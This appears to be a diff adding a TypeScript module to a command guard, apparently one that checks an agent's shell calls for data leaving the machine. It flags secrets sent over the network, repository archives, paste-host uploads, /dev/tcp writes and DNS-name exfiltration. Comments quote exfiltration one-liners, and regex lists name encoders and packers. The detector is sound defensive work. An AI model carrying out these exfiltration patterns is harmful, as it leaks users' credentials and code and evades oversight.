@@ -1,0 +1,231 @@
+import type { Facts } from '../protocol/facts.ts';
+import { type Flow, flowOf } from '../shell/flow.ts';
+import { gitCommand } from '../shell/git.ts';
+import { resolvePath } from '../shell/path.ts';
+import type { Command, Reading, Word } from '../shell/reading.ts';
+import { show, textOf, type Value } from '../shell/value.ts';
+import { addressOf, isListed, isLocal } from './addresses.ts';
+import type { JudgedCall, Where } from './guard.ts';
+import { type Sent, type Transfer, transferOf } from './network.ts';
+import type { SecretFiles } from './secret-files.ts';
+import { isEnvironmentDump } from './secret-prints.ts';
+import { PASTE_HOSTS, RESOLVERS } from './tables/paste-hosts.ts';
+import { matchRows } from './tables/program-rows.ts';
+import { SECRET_PRINTERS, SHOWING } from './tables/secret-readers.ts';
+
+/** Something of the machine that a command hands to the network. */
+export interface Outflow {
+  readonly code: 'sent' | 'repository' | 'address' | 'paste' | 'resolved';
+  readonly where: Where;
+  readonly command: Command;
+  /** For messages: what is sent. */
+  readonly what: string;
+}
+
+export interface Bounds {
+  readonly secrets: SecretFiles;
+  readonly facts: Facts;
+  readonly allowHosts: readonly string[];
+}
+
+export function outflows(call: JudgedCall, bounds: Bounds): readonly Outflow[] {
+  const { reading } = call;
+  if (reading === undefined) return [];
+  const scene: Scene = { call, reading, flow: flowOf(reading), ...bounds };
+  return reading.commands.flatMap((command) => [
+    ...byTransfer(command, scene),
+    ...byConnection(command, scene),
+    ...byName(command, scene),
+  ]);
+}
+
+interface Scene extends Bounds {
+  readonly call: JudgedCall;
+  readonly reading: Reading;
+  readonly flow: Flow;
+}
+
+function byTransfer(command: Command, scene: Scene): readonly Outflow[] {
+  const transfer = transferOf(command);
+  if (transfer === undefined || isTrusted(transfer, scene)) return [];
+  const found = transfer.sends.flatMap((sent) => ofSent(sent, command, scene));
+  if (found.length > 0) return found.slice(0, 1);
+  const place = transfer.places.find(({ value }) => isListed(addressOf(value), PASTE_HOSTS));
+  const sends = transfer.sends.some((sent) => !transfer.places.includes(sent.word) && isGiven(sent, command));
+  return place !== undefined && sends
+    ? [{ code: 'paste', where: { call: scene.call, command, word: place }, command, what: show(place.value) }]
+    : [];
+}
+
+const isGiven = (sent: Sent, { stdin }: Command): boolean => sent.what !== 'input' || stdin !== undefined;
+
+const isTrusted = ({ places }: Transfer, { allowHosts }: Scene): boolean =>
+  places.length > 0 &&
+  places.every(({ value }) => {
+    const address = addressOf(value);
+    return isLocal(address) || isListed(address, allowHosts);
+  });
+
+function ofSent(sent: Sent, command: Command, scene: Scene): readonly Outflow[] {
+  const { call, flow } = scene;
+  const where = { call, command, word: sent.word };
+  switch (sent.what) {
+    case 'input': {
+      const { stdin } = command;
+      if (stdin?.from === 'file') return ofFile(stdin.path.value, stdin.path, command, scene);
+      return ofProducers(
+        stdin?.from === 'pipe' || stdin?.from === 'text' ? flow.sources(command) : [],
+        where,
+        command,
+        scene,
+      );
+    }
+    case 'file':
+      return ofFile(sent.path, sent.word, command, scene);
+    case 'text': {
+      const producers = flow.producers(sent.word.value, sent.word.span);
+      const isPlace = transferOf(command)?.places.includes(sent.word) === true;
+      const found = ofProducers(producers, where, command, scene);
+      if (found.length > 0 || !isPlace) return found;
+      const reader = producers.find((one) => one.name !== undefined && SHOWING.has(one.name) && readsFile(one, scene));
+      const isEncoded = producers.some(({ name }) => ENCODERS.test(name ?? ''));
+      if (reader !== undefined && !isEncoded && readsInside(reader, scene)) return [];
+      return reader === undefined ? [] : [{ code: 'address', where, command, what: shown(reader) }];
+    }
+  }
+}
+
+/** Commands whose output goes out, with all that they take in themselves. */
+function ofProducers(producers: readonly Command[], where: Where, command: Command, scene: Scene): readonly Outflow[] {
+  const seen = new Set<Command>();
+  const open = [...producers];
+  for (let one = open.pop(); one !== undefined; one = open.pop()) {
+    if (seen.has(one)) continue;
+    seen.add(one);
+    if (isSecret(one, scene)) return [{ code: 'sent', where, command, what: shown(one) }];
+    if (isWhole(one, scene) && !isCopy(command)) return [{ code: 'repository', where, command, what: shown(one) }];
+    open.push(...scene.flow.sources(one));
+  }
+  return [];
+}
+
+const shown = (command: Command): string =>
+  command.words
+    .map(({ value }) => show(value))
+    .join(' ')
+    .slice(0, 80);
+
+/** Whether a command prints secrets: of a file, of the environment, of a program that keeps them. */
+function isSecret(command: Command, scene: Scene): boolean {
+  if (isEnvironmentDump(command)) return true;
+  const row = matchRows(command, SECRET_PRINTERS);
+  // A token in a request is what tokens are for; it goes out in a header, which is no data.
+  if (row !== undefined && row.row.does !== '') return true;
+  return scene.call.effects.some(
+    (effect) => effect.command === command && effect.action === 'read' && holdsSecret(effect.path, scene),
+  );
+}
+
+/** A secret file, or one that the line has made of one. */
+function holdsSecret(path: Value, scene: Scene): boolean {
+  const { secrets, call } = scene;
+  if (secrets.named(path) !== undefined) return true;
+  const text = textOf(path);
+  if (text === undefined) return false;
+  return call.effects.some((effect) => {
+    if (textOf(effect.path) !== text || (effect.action !== 'write' && effect.action !== 'link')) return false;
+    if (effect.from !== undefined) return secrets.named(effect.from) !== undefined;
+    return effect.command !== undefined && packs(effect.command, scene);
+  });
+}
+
+/** An archive or a redirection into which a secret file goes. */
+function packs(command: Command, { call, secrets }: Scene): boolean {
+  return call.effects.some(
+    (effect) => effect.command === command && effect.action === 'read' && secrets.named(effect.path) !== undefined,
+  );
+}
+
+function ofFile(file: Value, word: Word, command: Command, scene: Scene): readonly Outflow[] {
+  const { call } = scene;
+  const where = { call, command, word };
+  return command.directories.slice(0, 1).flatMap((directory): readonly Outflow[] => {
+    const path = resolvePath(directory, file);
+    if (holdsSecret(path, scene)) return [{ code: 'sent', where, command, what: show(file) }];
+    const packed = textOf(path);
+    const maker = call.effects.find(
+      (effect) =>
+        effect.action === 'write' &&
+        packed !== undefined &&
+        textOf(effect.path) === packed &&
+        effect.command !== undefined,
+    )?.command;
+    const isRepository = maker !== undefined && !isCopy(command) && isWhole(maker, scene);
+    return isRepository ? [{ code: 'repository', where, command, what: shown(maker) }] : [];
+  });
+}
+
+/** Copying to a machine of one's own is how things are deployed and kept. */
+const isCopy = ({ name }: Command): boolean =>
+  /^(?:ssh|scp|rsync|sftp|mosh|aws|gsutil|rclone|gcloud|az|s3cmd|mc|b2)$/.test(name ?? '');
+
+const PACKERS = /^(?:tar|gtar|bsdtar|zip|7z|7za|cpio|find|cat|grep|rg)$/;
+
+/** Whether a command prints or packs a whole work tree, or its history. */
+function isWhole(command: Command, { call, facts }: Scene): boolean {
+  const git = gitCommand(command);
+  if (git !== undefined)
+    return (
+      git.subcommand === 'archive' || (git.subcommand === 'bundle' && textOf(git.words[0]?.value ?? []) === 'create')
+    );
+  if (!PACKERS.test(command.name ?? '')) return false;
+  const root = facts.repository(call.cwd)?.workTree ?? call.cwd;
+  const tops = [call.cwd, root, `${root}/.git`, ...(facts.home === undefined ? [] : [facts.home])];
+  return call.effects.some(
+    (effect) =>
+      effect.command === command &&
+      effect.action === 'read' &&
+      effect.reach !== 'entry' &&
+      tops.includes(textOf(effect.path) ?? ''),
+  );
+}
+
+/** What makes text of any contents fit into an address. */
+const ENCODERS = /^(?:base64|base32|basenc|xxd|od|hexdump|gzip|bzip2|xz|tar|openssl|jq|uuencode)$/;
+
+/** A version, a name: what a file of the project says is often part of an address. */
+const readsInside = (command: Command, { call }: Scene): boolean =>
+  call.effects.every(
+    (effect) => effect.command !== command || effect.action !== 'read' || show(effect.path).startsWith(`${call.cwd}/`),
+  );
+
+const readsFile = (command: Command, { call }: Scene): boolean =>
+  call.effects.some((effect) => effect.command === command && effect.action === 'read');
+
+/** `cat x > /dev/tcp/host/port`. */
+function byConnection(command: Command, scene: Scene): readonly Outflow[] {
+  const connection = scene.flow.sinks(command).find((sink) => sink.to === 'network');
+  if (connection?.to !== 'network') return [];
+  const where = { call: scene.call, command, word: connection.word };
+  return ofProducers([command], where, command, scene);
+}
+
+/** `dig $(…).example.com`: the name itself carries what is computed. */
+function byName(command: Command, { call, flow }: Scene): readonly Outflow[] {
+  if (!RESOLVERS.has(command.name ?? '')) return [];
+  return command.words.slice(1).flatMap((word): readonly Outflow[] => {
+    const { value } = word;
+    const at = value.findIndex((piece) => typeof piece !== 'string' && piece.gap === 'command');
+    const behind = value.slice(at + 1).find((piece) => typeof piece === 'string');
+    if (at < 0 || typeof behind !== 'string' || !/^\.?[\w-]*\.[a-z\d-]/i.test(behind)) return [];
+    const from = flow.producers(value, word.span)[0];
+    return [
+      {
+        code: 'resolved',
+        where: { call, command, word },
+        command,
+        what: from === undefined ? show(value) : shown(from),
+      },
+    ];
+  });
+}
